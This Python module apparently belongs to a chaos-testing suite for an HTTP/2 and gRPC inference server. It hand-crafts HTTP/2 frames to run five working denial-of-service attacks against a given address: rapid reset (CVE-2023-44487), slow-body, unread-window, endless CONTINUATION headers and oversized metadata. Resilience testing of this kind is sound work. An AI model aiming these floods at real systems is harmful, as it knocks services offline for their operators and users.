"""Peers that mean harm: ``python -m chaos.attackers WAY ADDRESS SECONDS``, a process of their own.

They write HTTP/2 by hand, as no client would. They say ``begun`` when they are at it, and what they
managed, as JSON, when the time is over.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import json
import sys
import time
from typing import TYPE_CHECKING, Final

from benchmarks.workload import INFER

from jitney.loadgen.connection import template
from jitney.loadgen.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    RESET,
    SETTINGS,
    data_frame,
    frame,
    greeting,
)
from jitney.loadgen.hpack import HeaderWriter
from jitney.serving import make_room_for_descriptors
from jitney_client.protocol import inference as pb

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

    Way = Callable[["Attack"], Awaitable[None]]

__all__ = ["WAYS", "main"]

OTHER_DESCRIPTORS: Final = 64
TICK: Final = 0.01
SETTLE: Final = 0.3
SETTLE_EACH: Final = 0.01
"""Seconds from the first connection until the attack counts, and more for every connection."""
CANCEL: Final = (8).to_bytes(4, "big")
HIGHEST_STREAM: Final = (1 << 31) - 1
PROMISED: Final = 1 << 20
"""Bytes of a message that is announced and never comes."""
WIDE: Final = 1 << 14
"""Elements of a reply that nobody reads; 64 KiB."""
UNREAD_CALLS: Final = 4
HEADER_BYTES: Final = 8192
LONG_HEADER: Final = b"\x00\x03abc\x7f\xc1\x3d" + b"v" * 8000
"""A header without an entry in the table: a name, the value's length in seven bits at a time."""
READ: Final = 1 << 16
CONNECT_TIMEOUT: Final = 10.0


class Attack:
    """One connection after the other, until it is over; ``counts`` are shared by all."""

    def __init__(
        self, address: str, ends: float, rate: float, counts: collections.Counter[str]
    ) -> None:
        host, _, port = address.rpartition(":")
        self.host, self.port = host, int(port)
        self.address = address
        self.ends = ends
        self.rate = rate
        self.counts = counts

    @property
    def over(self) -> bool:
        """Whether it is time to stop."""
        return time.monotonic() >= self.ends

    async def connect(self, hello: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open a connection and greet."""
        async with asyncio.timeout(CONNECT_TIMEOUT):
            reader, writer = await asyncio.open_connection(self.host, self.port)
        writer.write(hello)
        self.counts["connections"] += 1
        return reader, writer

    def block(self, *metadata: tuple[str, str]) -> bytes:
        """Return the header block of a call, to be used once per connection."""
        return HeaderWriter().block(template(INFER, self.address, b"", metadata).headers)


async def rapid_reset(attack: Attack) -> None:
    """Open streams and reset them at once, so many per second (CVE-2023-44487)."""
    reader, writer = await attack.connect(greeting())
    reading = asyncio.ensure_future(_read_away(reader))
    first, again = attack.block(), _repeated()
    stream, began, sent = 1, time.monotonic(), 0
    try:
        while not attack.over and not reading.done() and stream < HIGHEST_STREAM:
            due = int((time.monotonic() - began) * attack.rate) - sent
            for _ in range(due):
                block = first if stream == 1 else again
                writer.write(frame(HEADERS, END_HEADERS, stream, block))
                writer.write(frame(RESET, 0, stream, CANCEL))
                stream += 2
            sent += due
            attack.counts["resets"] += due
            await writer.drain()
            await asyncio.sleep(TICK)
    finally:
        reading.cancel()
        writer.transport.abort()


async def half_sent(attack: Attack) -> None:
    """Announce a message and send a byte of it per second."""
    reader, writer = await attack.connect(greeting())
    reading = asyncio.ensure_future(_read_away(reader))
    try:
        writer.write(frame(HEADERS, END_HEADERS, 1, attack.block()))
        writer.write(frame(DATA, 0, 1, b"\0" + PROMISED.to_bytes(4, "big")))
        while not attack.over and not reading.done():
            writer.write(frame(DATA, 0, 1, b"x"))
            attack.counts["bytes"] += 1
            await writer.drain()
            await asyncio.sleep(1)
    finally:
        reading.cancel()
        writer.transport.abort()


async def unread(attack: Attack) -> None:
    """Ask for large replies and leave no room for them."""
    none = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
    magic, *_ = greeting().partition(b"SM\r\n\r\n")
    reader, writer = await attack.connect(magic + b"SM\r\n\r\n" + frame(SETTINGS, 0, 0, none))
    request = pb.ModelInferRequest(model_name="wide")
    request.inputs.add(name="x", datatype="FP32", shape=[1, WIDE])
    request.raw_input_contents.append(bytes(4 * WIDE))
    message = request.SerializeToString()
    payload = b"\0" + len(message).to_bytes(4, "big") + message
    try:
        for stream in range(1, 2 * UNREAD_CALLS, 2):
            block = attack.block() if stream == 1 else _repeated()
            writer.write(frame(HEADERS, END_HEADERS, stream, block))
            # As much as the server takes unasked; it grants more once it wants the rest.
            for at in range(0, len(payload), HEADER_BYTES):
                writer.write(frame(DATA, 0, stream, payload[at : at + HEADER_BYTES]))
            attack.counts["calls"] += 1
        while not attack.over:
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(1):
                    if not await reader.read(1):
                        break
            await asyncio.sleep(1)
    finally:
        writer.transport.abort()


async def endless_headers(attack: Attack) -> None:
    """Begin headers and never end them (CVE-2024-27316 and its kin)."""
    reader, writer = await attack.connect(greeting())
    reading = asyncio.ensure_future(_read_away(reader))
    try:
        writer.write(frame(HEADERS, 0, 1, attack.block()))
        while not attack.over and not reading.done():
            writer.write(frame(CONTINUATION, 0, 1, LONG_HEADER))
            attack.counts["bytes"] += len(LONG_HEADER)
            await writer.drain()
            await asyncio.sleep(1 / attack.rate)
    finally:
        reading.cancel()
        writer.transport.abort()


async def large_metadata(attack: Attack) -> None:
    """Call with far more metadata than is allowed."""
    reader, writer = await attack.connect(greeting())
    reading = asyncio.ensure_future(_read_away(reader))
    stream = 1
    try:
        while not attack.over and not reading.done() and stream < HIGHEST_STREAM:
            block = _plain_block(attack, stream)
            first, rest = block[:HEADER_BYTES], block[HEADER_BYTES:]
            writer.write(frame(HEADERS, 0, stream, first))
            while len(rest) > HEADER_BYTES:
                writer.write(frame(CONTINUATION, 0, stream, rest[:HEADER_BYTES]))
                rest = rest[HEADER_BYTES:]
            writer.write(frame(CONTINUATION, END_HEADERS, stream, rest))
            data = bytearray(data_frame(b""))
            data[5:9] = stream.to_bytes(4, "big")
            writer.write(bytes(data))
            attack.counts["calls"] += 1
            stream += 2
            await writer.drain()
            await asyncio.sleep(TICK)
    finally:
        reading.cancel()
        writer.transport.abort()


def _plain_block(attack: Attack, stream: int) -> bytes:
    block = attack.block() if stream == 1 else _repeated()
    return block + LONG_HEADER * 16


def _repeated() -> bytes:
    """Return the block of a call whose headers the server has seen: five entries of its table."""
    return bytes((0x83, 0x86, 0x80 | 66, 0x80 | 65, 0x80 | 64, 0x80 | 63, 0x80 | 62))


async def _read_away(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(READ):
            pass


WAYS: Final[dict[str, Way]] = {
    way.__name__: way for way in (rapid_reset, half_sent, unread, endless_headers, large_metadata)
}


async def _attack(way: Way, attack: Attack) -> None:
    """Do it again and again: whoever is thrown out comes back."""
    while not attack.over:
        try:
            await way(attack)
        except (OSError, TimeoutError):
            attack.counts["failed"] += 1
            await asyncio.sleep(TICK)


async def _run(way: str, address: str, seconds: float, connections: int, rate: float) -> None:
    counts: collections.Counter[str] = collections.Counter()
    settle = SETTLE + SETTLE_EACH * connections
    ends = time.monotonic() + settle + seconds
    each = [Attack(address, ends, rate / connections, counts) for _ in range(connections)]
    attacks = asyncio.gather(*(_attack(WAYS[way], one) for one in each))
    await asyncio.sleep(settle)
    counts.clear()
    print("begun", flush=True)
    await attacks
    print(json.dumps(counts), flush=True)


def main() -> int:
    """Attack for so many seconds; return the exit code."""
    parser = argparse.ArgumentParser(prog="python -m chaos.attackers")
    parser.add_argument("way", choices=WAYS)
    parser.add_argument("address")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--connections", type=int, default=2)
    parser.add_argument("--rate", type=float, default=15_000.0, help="per second, in all")
    given = parser.parse_args()
    make_room_for_descriptors(given.connections + OTHER_DESCRIPTORS)
    asyncio.run(_run(given.way, given.address, given.seconds, given.connections, given.rate))
    return 0


if __name__ == "__main__":
    sys.exit(main())
